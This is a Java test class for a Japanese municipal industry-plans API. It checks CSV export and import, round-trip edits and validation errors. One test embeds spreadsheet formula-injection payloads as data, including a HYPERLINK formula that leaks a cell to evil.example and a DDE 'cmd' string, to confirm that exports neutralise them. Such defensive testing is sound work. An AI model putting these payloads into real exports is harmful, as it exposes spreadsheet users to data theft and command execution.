package jp.industryplans.csv;

import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItems;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import jp.industryplans.ApiTest;
import org.junit.jupiter.api.Test;

@QuarkusTest
class CsvTest extends ApiTest {

    private static final CsvMapper CSV = new CsvMapper();

    private static String csv(String path) {
        return editor().accept("text/csv").get(path)
                .then().statusCode(200).contentType(startsWith("text/csv"))
                .extract().asString();
    }

    /** Rows as ordered lists of cells, header first, read by an independent CSV parser. */
    private static List<List<String>> rows(String body) throws Exception {
        assertTrue(body.startsWith("\uFEFF"), "starts with a BOM so that Excel reads UTF-8");
        List<List<String>> rows = new ArrayList<>();
        try (MappingIterator<List<String>> it = CSV.readerForListOf(String.class)
                .with(CsvParser.Feature.WRAP_AS_ARRAY).readValues(body.substring(1))) {
            it.forEachRemaining(rows::add);
        }
        return rows;
    }

    @Test
    void collectionsAnswerCsvWithTheSameFiltersAsJson() throws Exception {
        List<List<String>> plans = rows(csv("/api/v1/plans?municipality=131067&sort=periodStart"));
        assertEquals(List.of("id", "key", "municipalityCode", "municipalityName", "kind", "title"),
                plans.get(0).subList(0, 6));
        assertEquals(4, plans.size(), "header and Taito's three plans");
        int summary = plans.get(0).indexOf("summary");
        int title = plans.get(0).indexOf("title");
        assertEquals("台東区地域産業活性化計画", plans.get(3).get(title));
        // The summary holds commas and full-width punctuation; quoting keeps it one cell.
        assertTrue(plans.get(3).get(summary).startsWith("台東区はファッション関連産業が集積し、"));
        assertEquals("002_69dd780628cbc40f.txt", plans.get(3).get(plans.get(0).indexOf("source.document")));

        int jsonTotal = json(editor()).get("/api/v1/initiatives?municipality=131091&size=200").then().extract().path("total");
        assertEquals(jsonTotal + 1, rows(csv("/api/v1/initiatives?municipality=131091&size=200")).size());
        List<List<String>> empty = rows(csv("/api/v1/plans?q=宇宙旅行"));
        assertEquals(1, empty.size(), "an empty page still has its header row");
        for (String path : List.of("/api/v1/municipalities", "/api/v1/indicators", "/api/v1/evaluations",
                "/api/v1/themes")) {
            assertTrue(rows(csv(path)).size() > 1, path);
        }
    }

    @Test
    void indicatorValuesRoundTripThroughASpreadsheet() throws Exception {
        String exported = csv("/api/v1/indicators/values?municipality=131067");
        List<List<String>> rows = rows(exported);
        List<String> header = rows.get(0);
        assertTrue(header.containsAll(List.of("municipalityCode", "planTitle", "indicatorName", "fiscalYear", "kind",
                "value", "text", "missingReason", "note")));
        assertEquals(129, rows.size(), "header and the 128 values of Taito's two sheets");
        int name = header.indexOf("indicatorName");
        int fy = header.indexOf("fiscalYear");
        int kind = header.indexOf("kind");
        int value = header.indexOf("value");
        int edited = -1;
        for (int r = 1; r < rows.size(); r++) {
            List<String> row = rows.get(r);
            if (row.get(name).equals("台東区中小企業振興センターが支援する中小企業数") && row.get(fy).equals("2020")
                    && row.get(kind).equals("ACTUAL")) {
                edited = r;
            }
        }
        assertEquals("5550", rows.get(edited).get(value));

        rows.get(edited).set(value, "5600");
        admin().contentType("text/csv; charset=UTF-8").body(write(rows)).post("/api/v1/indicators/values")
                .then().statusCode(200)
                .body("created", equalTo(0)).body("updated", equalTo(1)).body("unchanged", equalTo(127));
        List<List<String>> after = rows(csv("/api/v1/indicators/values?municipality=131067"));
        assertEquals(rows, after, "exactly the edited cell changed");

        // Restore from the untouched export, BOM and all.
        admin().contentType("text/csv; charset=UTF-8").body(exported).post("/api/v1/indicators/values")
                .then().statusCode(200).body("updated", equalTo(1)).body("unchanged", equalTo(127));
        assertEquals(exported, csv("/api/v1/indicators/values?municipality=131067"));
    }

    @Test
    void aBadRowRejectsTheWholeFileNamingRowAndColumn() throws Exception {
        String before = csv("/api/v1/indicators/values?municipality=131067");
        List<List<String>> rows = rows(before);
        List<String> header = rows.get(0);
        rows.get(3).set(header.indexOf("fiscalYear"), "令和0年度");
        rows.get(5).set(header.indexOf("value"), "たくさん");
        rows.get(6).set(header.indexOf("value"), "7");
        invalid(admin()).contentType("text/csv").body(write(rows)).post("/api/v1/indicators/values")
                .then().statusCode(400).contentType("application/problem+json")
                .body("errors.field", hasItems("row 4, column fiscalYear", "row 6, column value"));
        assertEquals(before, csv("/api/v1/indicators/values?municipality=131067"), "nothing stored");

        invalid(admin()).contentType("text/csv").body("indicatorId,fiscalYear\n").post("/api/v1/indicators/values")
                .then().statusCode(400).body("errors[0].field", equalTo("row 1"));
        invalid(admin()).contentType(ContentType.JSON).body(Map.of("value", 1)).post("/api/v1/indicators/values")
                .then().statusCode(415).contentType("application/problem+json");
    }

    @Test
    void textThatLooksLikeAFormulaIsNeutralisedAndStillRoundTrips() throws Exception {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        Map<String, Object> planBody = jp.industryplans.TestPlans.planBody("csv-formula-" + System.nanoTime());
        planBody.put("title", hyperlink);
        String plan = json(admin()).body(planBody).post("/api/v1/plans").then().statusCode(201).extract().path("id");
        try {
            formulasRoundTrip(plan, hyperlink);
        } finally {
            jp.industryplans.TestPlans.deletePlan(plan);
        }
    }

    private void formulasRoundTrip(String plan, String hyperlink) throws Exception {
        String indicator = jp.industryplans.TestPlans.createIndicator(plan, null, "formula");
        Map<String, String> texts = Map.of("2021", "+1+cmd|' /C calc'!A0", "2022", "-5件", "2023", "@SUM(A1:A9)",
                "2024", "\tTAB", "2025", "'already quoted");
        texts.forEach((year, text) -> json(admin()).header("If-None-Match", "*")
                .body(Map.of("value", -5, "text", text, "note", text)).put("/api/v1/indicators/" + indicator + "/values/"
                        + year + "/ACTUAL").then().statusCode(201));

        List<List<String>> plans = rows(csv("/api/v1/plans?municipality=131067&kind=INDUSTRIAL_PROMOTION_PLAN&size=200"));
        List<String> planRow = plans.stream().filter(r -> r.get(0).equals(plan)).findFirst().orElseThrow();
        assertEquals("'" + hyperlink, planRow.get(plans.get(0).indexOf("title")), "a formula is shown as text");

        String exported = csv("/api/v1/indicators/values?indicator=" + indicator);
        List<List<String>> rows = rows(exported);
        int text = rows.get(0).indexOf("text");
        int value = rows.get(0).indexOf("value");
        for (List<String> row : rows.subList(1, rows.size())) {
            assertEquals("-5", row.get(value), "numbers stay numbers, minus sign and all");
            assertTrue(row.get(text).startsWith("'"), "neutralised: " + row.get(text));
        }
        // Uploaded again as exported: nothing changes, and no apostrophe is stored.
        admin().contentType("text/csv; charset=UTF-8").body(exported).post("/api/v1/indicators/values")
                .then().statusCode(200).body("updated", equalTo(0)).body("unchanged", equalTo(5));
        texts.forEach((year, t) -> json(editor()).get("/api/v1/indicators/" + indicator + "/values/" + year + "/ACTUAL")
                .then().body("text", equalTo(t)).body("note", equalTo(t)));
    }

    @Test
    void aHugeBadUploadListsTheFirstHundredFaultsAndCountsThemAll() {
        String id = json(editor()).get("/api/v1/indicators?size=1").then().extract().path("items[0].id");
        StringBuilder csv = new StringBuilder("indicatorId,fiscalYear,kind,value,text,missingReason,note\n");
        for (int i = 0; i < 50_000; i++) {
            csv.append(id).append(",令和0年度,TARGET,1,,,\n");
        }
        String body = invalid(admin()).contentType("text/csv").body(csv.toString()).post("/api/v1/indicators/values")
                .then().statusCode(400).contentType("application/problem+json")
                .body("detail", equalTo("50000 fields are invalid; the first 100 are listed."))
                .body("errors.size()", equalTo(100))
                .body("errors[0].field", equalTo("row 2, column fiscalYear"))
                .extract().asString();
        assertTrue(body.length() < 20_000, "a short answer, not megabytes: " + body.length());
    }

    private static String write(List<List<String>> rows) throws Exception {
        return CSV.writer(CsvSchema.emptySchema()).writeValueAsString(rows);
    }
}
